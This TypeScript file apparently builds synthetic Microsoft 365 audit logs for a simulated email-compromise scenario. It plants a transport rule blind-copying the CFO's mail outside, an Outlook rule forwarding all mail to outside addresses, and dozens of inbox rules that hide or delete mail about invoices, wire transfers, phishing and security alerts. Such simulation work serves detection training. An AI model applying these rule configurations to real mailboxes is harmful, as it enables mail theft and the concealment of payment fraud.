/**
 * Mail-flow persistence around the delegation story:
 * - transport-rule-forwarding: the stolen admin session creates a transport rule that blind-copies
 *   mail sent to the CFO to an outside address (New-TransportRule record, and the rule in the
 *   transport-rule dump);
 * - outlook-forwarding-rule: the delegate, in the CFO's mailbox from Outlook desktop, creates a rule
 *   forwarding everything to four outside addresses (UpdateInboxRules, LogonType 2);
 * - inbox-rule-burst: the stolen admin account writes three dozen New-InboxRule rules into eight
 *   mailboxes within minutes, most of them hiding mail, one per mailbox only moving the supplier's
 *   mail to the Inbox, marking it read and stopping rule processing.
 */
import { exchangeAdmin, type Params } from './audit-data.js';
import { mapiRuleId, updateInboxRules } from './audit-data-outlook.js';
import { ATTACKER_IPS, FORWARD_TO, type Kit } from './attack-kit.js';
import type { User } from './tenant.js';
import { RULE_PHRASES, ruleDescription } from './transport-rules.js';

export const BCC_TO = 'fin.records@ledger-vault.example';
export const OUTLOOK_FORWARD_TO = [
  FORWARD_TO,
  'ap.remittance@ledger-vault.example',
  'okafor.d@fastmail-box.example',
  'records.sync@docu-share.example',
] as const;

export function plantTransportRule(kit: Kit): void {
  const { state, a1, at, action, adminCmd } = kit;
  const { admin, cfo } = kit.cast;
  const time = at(a1, 2, 19, 40);
  const name = 'Finance Compliance Archive';
  const id = action(
    'T1114.003',
    'transport-rule-forwarding',
    admin.upn,
    [admin.upn, cfo.upn, BCC_TO],
    time,
    `Transport rule "${name}" blind-copies mail sent to ${cfo.displayName} to an outside address`,
  );
  adminCmd(
    time,
    'New-TransportRule',
    { rawObjectId: '' },
    [
      ['Name', name],
      ['SentTo', cfo.upn],
      ['BlindCopyTo', BCC_TO],
      ['Priority', '0'],
    ],
    id,
  );
  state.addTransportRule(
    {
      name,
      description: ruleDescription([RULE_PHRASES.sentTo([cfo.upn])], [RULE_PHRASES.blindCopyTo([BCC_TO])]),
      createdBy: admin.displayName,
      whenChanged: time,
      state: 'Enabled',
      mode: 'Enforce',
      actionId: id,
    },
    0,
  );
}

export function plantOutlookForwardingRule(kit: Kit): void {
  const { t, rng, a2, at, action, audit } = kit;
  const { delegate, cfo } = kit.cast;
  const time = at(a2, 8, 31, 17);
  const id = action(
    'T1114.003',
    'outlook-forwarding-rule',
    delegate.upn,
    [delegate.upn, cfo.upn, ...OUTLOOK_FORWARD_TO],
    time,
    `${delegate.displayName} creates a rule in ${cfo.displayName}'s mailbox from Outlook that forwards all mail ` +
      'to four outside addresses',
  );
  const ruleId = mapiRuleId(rng);
  const change = {
    actor: delegate,
    owner: cfo,
    logonType: 2 as const,
    clientIp: ATTACKER_IPS.delegate,
    ruleId,
    ruleState: 'Enabled',
    condition: '{(Exists(ItemClass))}',
    actions: [{ ActionType: 'Forward', Recipients: [...OUTLOOK_FORWARD_TO], ForwardFlags: 'None' }],
    actionId: id,
  };
  // Outlook saves the new rule, then writes it again once named: the first record has no RuleName value.
  audit(updateInboxRules(t, rng, { ...change, time, operation: 'AddMailboxRule', name: null, immutableIdError: true }));
  audit(updateInboxRules(t, rng, { ...change, time: time + 38_000, operation: 'ModifyMailboxRule', name: 'Sync' }));
}

export function plantInboxRuleBurst(kit: Kit): void {
  const { t, rng, a2, at, action, audit } = kit;
  const { admin, ceo, cfo, counsel, coo, assistant, officeManager, clerk } = kit.cast;
  const ap = t.users.find((u) => u.alias === 'accounts.payable');
  const owners: User[] = [cfo, ceo, clerk, ...(ap ? [ap] : []), counsel, coo, assistant, officeManager];
  const vendor = t.partners[0]!.contacts.find((c) => c.startsWith('accounts@')) ?? t.partners[0]!.contacts[0]!;
  const hiding: [string, Params][] = [
    [
      '.',
      [
        ['SubjectOrBodyContainsWords', 'invoice;payment;remittance;bank'],
        ['MoveToFolder', 'RSS Feeds'],
        ['MarkAsRead', 'True'],
        ['StopProcessingRules', 'True'],
      ],
    ],
    [
      '..',
      [
        ['SubjectContainsWords', 'phishing;suspicious;hacked;compromised'],
        ['DeleteMessage', 'True'],
        ['StopProcessingRules', 'True'],
      ],
    ],
    [
      '...',
      [
        ['FromAddressContainsWords', 'security;helpdesk;it-support'],
        ['MoveToFolder', 'Conversation History'],
        ['MarkAsRead', 'True'],
      ],
    ],
  ];
  const extra: [string, Params][] = [
    [
      '_',
      [
        ['SubjectOrBodyContainsWords', 'wire transfer;account change;new bank'],
        ['DeleteMessage', 'True'],
      ],
    ],
    [
      'x',
      [
        ['From', vendor],
        ['MoveToFolder', 'RSS Subscriptions'],
        ['MarkAsRead', 'True'],
      ],
    ],
  ];
  // Moves the supplier's mail to where it already is, unread-flag off, and stops the owner's own rules.
  const quiet: [string, Params] = [
    'Sync',
    [
      ['From', vendor],
      ['MoveToFolder', 'Inbox'],
      ['MarkAsRead', 'True'],
      ['StopProcessingRules', 'True'],
    ],
  ];
  let time = at(a2, 2, 36, 5);
  const id = action(
    'T1564.008',
    'inbox-rule-burst',
    admin.upn,
    [admin.upn, ...owners.map((o) => o.upn)],
    time,
    `${admin.displayName}'s account creates dozens of inbox rules in ${owners.length} mailboxes within minutes, ` +
      'most of them hiding mail',
  );
  const session = rng.guid();
  owners.forEach((owner, k) => {
    const rules = [...hiding, ...(k < 4 ? [extra[k % 2]!] : []), quiet];
    for (const [name, params] of rules) {
      audit(
        exchangeAdmin(t, rng, {
          time,
          actor: admin,
          operation: 'New-InboxRule',
          object: `${t.orgPath}/${owner.name}\\${name}`,
          clientIp: ATTACKER_IPS.admin,
          sessionId: session,
          parameters: [['Mailbox', owner.upn], ['Name', name], ...params],
          actionId: id,
        }),
      );
      time += 6_000 + rng.int(6_000);
    }
  });
}
